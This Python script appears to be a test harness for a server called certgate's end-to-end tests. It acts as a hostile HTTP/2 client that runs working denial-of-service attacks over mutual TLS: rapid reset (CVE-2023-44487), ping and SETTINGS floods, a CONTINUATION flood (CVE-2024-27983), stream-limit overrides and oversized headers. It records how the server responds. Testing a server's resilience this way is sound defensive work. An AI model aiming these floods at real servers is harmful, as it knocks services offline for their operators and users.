#!/usr/bin/env python3
"""A hostile HTTP/2 client for certgate's attack tests (test/e2e/http2-hostile.test.ts), driving frames with
python3-h2 / hyperframe over a verified TLS connection with a client certificate.

  h2_hostile.py <host> <port> <ca.pem> <cert.pem> <key.pem> <attack> [n]

attack: rapid_reset | ping_flood | settings_flood | continuation_flood | concurrency | concurrency_unacked | big_headers
Prints one JSON line: what the server did (goaway error code, last stream id and debug data, streams reset and
how, responses, whether it closed).
"""
import json
import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.events
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame


def main():
    host, port, ca, cert, key, attack = sys.argv[1:7]
    n = int(sys.argv[7]) if len(sys.argv) > 7 else 1000
    ctx = ssl.create_default_context(cafile=ca)
    ctx.load_cert_chain(cert, key)
    ctx.set_alpn_protocols(['h2'])
    raw = socket.create_connection((host, int(port)), timeout=20)
    sock = ctx.wrap_socket(raw, server_hostname='localhost')
    assert sock.selected_alpn_protocol() == 'h2', sock.selected_alpn_protocol()
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding='utf-8'))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    result = {'goaway': None, 'reset': {}, 'responses': {}, 'closed': False, 'sent': 0}
    authority = f'localhost:{port}'

    def headers(path, extra=()):
        return [(':method', 'GET'), (':scheme', 'https'), (':authority', authority), (':path', path), *extra]

    def pump(until_closed=True, until_answered=None):
        """Read until the server closes (or a timeout), or until `until_answered` streams got a response or a
        reset: record GOAWAY, resets, responses."""
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    result['closed'] = True
                    return
                try:
                    events = conn.receive_data(data)
                except Exception as e:  # the server's frames after our own protocol abuse
                    result['client_error'] = type(e).__name__
                    events = []
                for ev in events:
                    if isinstance(ev, h2.events.ConnectionTerminated):
                        if result['goaway'] is None:
                            result['goaway'] = int(ev.error_code)
                            result['goaway_last'] = ev.last_stream_id
                            result['goaway_data'] = (ev.additional_data or b'').decode('latin1')
                    elif isinstance(ev, h2.events.StreamReset):
                        code = str(int(ev.error_code))
                        result['reset'][code] = result['reset'].get(code, 0) + 1
                    elif isinstance(ev, h2.events.ResponseReceived):
                        status = dict((k if isinstance(k, str) else k.decode(), v) for k, v in ev.headers).get(':status')
                        result['responses'][str(status)] = result['responses'].get(str(status), 0) + 1
                try:
                    out = conn.data_to_send()
                    if out:
                        sock.sendall(out)
                except Exception:
                    pass
                if not until_closed and result['responses']:
                    return
                if until_answered is not None and sum(result['responses'].values()) + sum(result['reset'].values()) >= until_answered:
                    return
        except (socket.timeout, ConnectionResetError, BrokenPipeError, ssl.SSLError, OSError) as e:
            result['read_end'] = type(e).__name__

    # Wait for the server's SETTINGS first and acknowledge them (concurrency_unacked does not: its streams
    # arrive while the server's SETTINGS are not yet in force).
    if attack != 'concurrency_unacked':
        sock.settimeout(5)
        events = conn.receive_data(sock.recv(65536))
        sock.sendall(conn.data_to_send())
    sock.settimeout(10)

    try:
        if attack == 'rapid_reset':
            # CVE-2023-44487: open a stream and cancel it at once, again and again.
            for i in range(n):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers(f'/rr/{i}'), end_stream=True)
                conn.reset_stream(sid, error_code=8)
                sock.sendall(conn.data_to_send())
                result['sent'] += 1
        elif attack == 'ping_flood':
            # Pings (and SETTINGS below) whose ACKs we never read: the server's queue of answers grows.
            frames = b''.join(PingFrame(0, opaque_data=i.to_bytes(8, 'big')).serialize() for i in range(n))
            sock.sendall(frames)
            result['sent'] = n
        elif attack == 'settings_flood':
            frames = b''.join(SettingsFrame(0, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 65535}).serialize() for _ in range(n))
            sock.sendall(frames)
            result['sent'] = n
        elif attack == 'continuation_flood':
            # CVE-2024-27983: HEADERS without END_HEADERS, then CONTINUATION frames forever.
            sid = conn.get_next_available_stream_id()
            block = conn.encoder.encode(headers('/cont'))
            hf = HeadersFrame(sid, data=block)
            hf.flags.add('END_STREAM')
            sock.sendall(hf.serialize())
            filler = conn.encoder.encode([('x-filler', 'a' * 1000)])
            for i in range(n):
                sock.sendall(ContinuationFrame(sid, data=filler).serialize())
                result['sent'] += 1
        elif attack == 'concurrency':
            # More streams at once than SETTINGS_MAX_CONCURRENT_STREAMS allows: h2 refuses to by itself, so
            # its view of the server's limit is overridden.
            conn.remote_settings = h2.settings.Settings(client=False, initial_values={h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 1 << 30})
            for i in range(n):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers(f'/hang/{i}'), end_stream=False)
                result['sent'] += 1
            sock.sendall(conn.data_to_send())
        elif attack == 'concurrency_unacked':
            # n complete GET streams at once, before reading (and so before acknowledging) the server's SETTINGS:
            # the race every client may lose at the start of a session. Read until each stream got a response
            # or a reset (or the server closed).
            conn.remote_settings = h2.settings.Settings(client=False, initial_values={h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 1 << 30})
            for i in range(n):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers(f'/unacked/{i}'), end_stream=True)
                result['sent'] += 1
            sock.sendall(conn.data_to_send())
            pump(until_answered=n)
            print(json.dumps(result))
            return
        elif attack == 'big_headers':
            # One stream whose header list is n bytes (under Node's hard limit): certgate's 431.
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers('/big', [('x-big', 'a' * n)]), end_stream=True)
            sock.sendall(conn.data_to_send())
            sock.settimeout(10)
            pump(until_closed=False)
            print(json.dumps(result))
            return
        else:
            raise SystemExit('unknown attack ' + attack)
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError) as e:
        result['write_end'] = type(e).__name__
    pump()
    print(json.dumps(result))


if __name__ == '__main__':
    main()
